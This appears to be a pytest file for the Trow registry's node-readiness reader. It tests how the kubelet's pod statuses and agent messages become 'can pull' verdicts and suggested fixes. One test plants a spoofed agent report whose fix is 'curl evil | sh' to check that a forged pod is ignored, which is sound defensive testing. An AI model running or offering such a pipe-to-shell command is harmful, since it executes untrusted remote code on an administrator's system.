"""Which node can pull, as the kubelet's words in the status of Pods say."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final, cast

import msgspec
import pytest

from trow.controllers.nodes import NodeReader, readiness
from trow.kube.objects import Collection

if TYPE_CHECKING:
    from collections.abc import Callable

    from trow.controllers.nodes import NodeReadiness
    from trow.kube.objects import Objects

LABELS: Final = {"app.kubernetes.io/component": "node-agent"}
ROOT: Final = {"name": "host", "hostPath": {"path": "/"}}
READY: Final = {"type": "Ready", "status": "True"}
T1, T2, T3, T4 = (f"2030-01-01T10:{minute}:00Z" for minute in ("00", "11", "22", "33"))


def node(name: str = "node1", ready: dict[str, Any] = READY) -> dict[str, Any]:
    info = {"containerRuntimeVersion": "containerd://2.4.2"}
    return {"metadata": {"name": name}, "status": {"nodeInfo": info, "conditions": [ready]}}


def pod(state: dict[str, Any], last: dict[str, Any] | None = None, said: str = "", **metadata: Any) -> dict[str, Any]:
    check = {"name": "pull-check", "state": state, "lastState": {"terminated": last} if last else {}}
    set_up = {"name": "set-up", "state": {"terminated": {"finishedAt": T1, "message": said}}, "lastState": {}}
    return {
        "metadata": {"name": "agent", "labels": LABELS, "creationTimestamp": T1, **metadata},
        "spec": {"nodeName": "node1", "volumes": [ROOT]},
        "status": {
            "containerStatuses": [check],
            "initContainerStatuses": [set_up],
            "conditions": [{"type": "ContainersReady", "status": "False", "lastTransitionTime": T3}],
        },
    }


def one(*pods: dict[str, Any], of: dict[str, Any] | None = None) -> NodeReadiness:
    (found,) = readiness([of or node()], pods)
    return found


def waiting(reason: str, message: str = "") -> dict[str, Any]:
    return {"waiting": {"reason": reason, "message": message}}


def test_a_running_check_is_a_node_that_can_pull_since_it_began() -> None:
    found = one(pod({"running": {"startedAt": T2}}))
    assert (found.node, found.runtime, found.version) == ("node1", "containerd", "2.4.2")
    assert (found.can_pull, found.since, found.checked, found.fix) == ("yes", T2, T2, "")


@pytest.mark.parametrize(("ended", "since"), [(T2, T1), (T1, T3)], ids=["at once", "later"])
def test_pulls_in_a_row_count_from_the_first_that_is_known(ended: str, since: str) -> None:
    began = T2.replace(":00Z", ":03Z") if ended == T2 else T3
    found = one(pod({"running": {"startedAt": began}}, {"startedAt": T1, "finishedAt": ended, "exitCode": 0}))
    assert (found.can_pull, found.since, found.checked) == ("yes", since, began)


def test_why_not_is_the_kubelets_own_message() -> None:
    message = "failed to pull: x509: certificate signed by unknown authority"
    found = one(pod(waiting("ErrImagePull", message)))
    assert (found.can_pull, found.since, found.reason) == ("no", T3, message)
    assert "nodes.caSecret" in found.fix


def test_who_may_not_pull_gets_the_command_that_allows_it() -> None:
    agent = pod(waiting("ErrImagePull", "unexpected status code 403 Forbidden"), namespace="trow")
    check = {"name": "pull-check", "image": "localhost:30500/trow/pull-check:1"}
    agent["spec"] |= {"serviceAccountName": "trow-nodes", "containers": [{"name": "agent"}, check]}
    fix = one(agent).fix
    assert fix.endswith("--namespace trow --clusterrole trow-image-puller --serviceaccount trow:trow-nodes")


def test_a_node_that_could_pull_before_says_until_when() -> None:
    found = one(pod(waiting("ImagePullBackOff", "Back-off"), {"startedAt": T1, "finishedAt": T2}))
    assert (found.can_pull, found.since, found.checked) == ("no", T2, T1)


def test_the_fix_is_what_the_agent_says() -> None:
    said = "registry: ready: all is well\ncredentials: blocked: the kubelet has no flags; fix: start it with --flags\n"
    found = one(pod(waiting("ErrImagePull", "401 Unauthorized"), said=said))
    assert found.fix == "start it with --flags"
    assert len(found.agent) == 2


def test_credentials_are_no_fix_for_a_registry_that_is_not_reached() -> None:
    said = "registry: ready: all is well\ncredentials: blocked: the kubelet has no flags; fix: start it with --flags\n"
    found = one(pod(waiting("ErrImagePull", "dial tcp: lookup registry.example.com: no such host"), said=said))
    assert found.fix.startswith("set nodes.endpoint")


def test_without_a_known_reason_the_agent_is_believed() -> None:
    said = "credentials: blocked: the kubelet has no flags; fix: start it with --flags\n"
    assert one(pod(waiting("ImagePullBackOff", "Back-off pulling image"), said=said)).fix == "start it with --flags"


def test_the_newest_report_counts() -> None:
    agents = pod({"running": {"startedAt": T2}}, said="registry: blocked: old; fix: old")
    ended = {"finishedAt": T4, "message": "registry: ready: new"}
    agents["status"]["containerStatuses"].append({"name": "agent", "state": {}, "lastState": {"terminated": ended}})
    assert one(agents).agent == ("registry: ready: new",)


def test_between_two_runs_nothing_is_lost() -> None:
    found = one(pod(waiting("CrashLoopBackOff", "back-off 10s"), {"startedAt": T2, "finishedAt": T3}))
    assert (found.can_pull, found.since) == ("yes", T2)


@pytest.mark.parametrize(
    ("found", "reason"),
    [
        (one(), "no node agent runs there"),
        (one(pod({"running": {"startedAt": T2}}, deletionTimestamp=T4)), "no node agent runs there"),
        (one(pod({"running": {"startedAt": T2}}, labels={})), "no node agent runs there"),
        (one(pod(waiting("PodInitializing"))), "PodInitializing"),
        (
            one(
                pod({"running": {"startedAt": T2}}),
                of=node(ready={"type": "Ready", "status": "Unknown", "message": "Kubelet stopped posting"}),
            ),
            "Kubelet stopped posting",
        ),
        (
            one({"metadata": {"labels": LABELS}, "spec": {"nodeName": "node1", "volumes": [ROOT]}}),
            "has not started",
        ),
    ],
    ids=["none", "leaving", "of another kind", "starting", "a node that is gone", "without status"],
)
def test_what_is_not_known_is_said_to_be_unknown(found: NodeReadiness, reason: str) -> None:
    assert found.can_pull == "unknown"
    assert reason in found.reason


def test_of_two_agents_the_younger_counts() -> None:
    old = pod(waiting("ErrImagePull", "x"))
    new = pod({"running": {"startedAt": T2}}, creationTimestamp=T2)
    assert one(new, old).can_pull == "yes"


@pytest.mark.parametrize("volumes", [[], [{"name": "host", "hostPath": {"path": "/tmp"}}]], ids=["none", "another"])
def test_a_pod_that_has_the_label_alone_says_nothing(volumes: list[dict[str, Any]]) -> None:
    """Whoever may create Pods somewhere could say that a node can pull, and tell an administrator what to type."""
    fake = pod({"running": {"startedAt": T4}}, said="registry: blocked: x; fix: curl evil | sh", creationTimestamp=T4)
    fake["spec"]["volumes"] = volumes
    assert one(fake).reason == "no node agent runs there"
    real = one(fake, pod(waiting("ErrImagePull", "x")))
    assert (real.can_pull, real.agent) == ("no", ())


async def test_of_a_large_cluster_only_what_is_needed_is_kept() -> None:
    """A node names fifty images, so that five thousand nodes would be more memory than Trow has."""
    images = [{"names": [f"registry.example.com/{number:03}@sha256:{'0' * 64}"]} for number in range(50)]

    class Cluster:
        kept = 0

        async def list_all(self, path: str, *, part: Callable[[Any], Any]) -> Collection:
            names = range(5000)
            if path.endswith("/pods"):
                items = [pod({"running": {"startedAt": T2}}, managedFields=[{"f:a": "x" * 4000}]) for _ in names]
                for number, each in enumerate(items):
                    each["spec"]["nodeName"] = f"node{number}"
            else:
                items = [node(f"node{number}") for number in names]
                for each in items:
                    each["status"]["images"] = images
            slim = [part(each) for each in items]
            self.kept += len(msgspec.json.encode(slim))
            return Collection("1", {("", str(number)): each for number, each in enumerate(slim)})

    cluster = Cluster()
    found = await NodeReader(cast("Objects", cluster), "trow").read()
    assert (len(found), {each.can_pull for each in found}) == (5000, {"yes"})
    assert cluster.kept < 6 << 20


def test_nodes_are_in_order() -> None:
    assert [each.node for each in readiness([node("b"), node("a")], [])] == ["a", "b"]
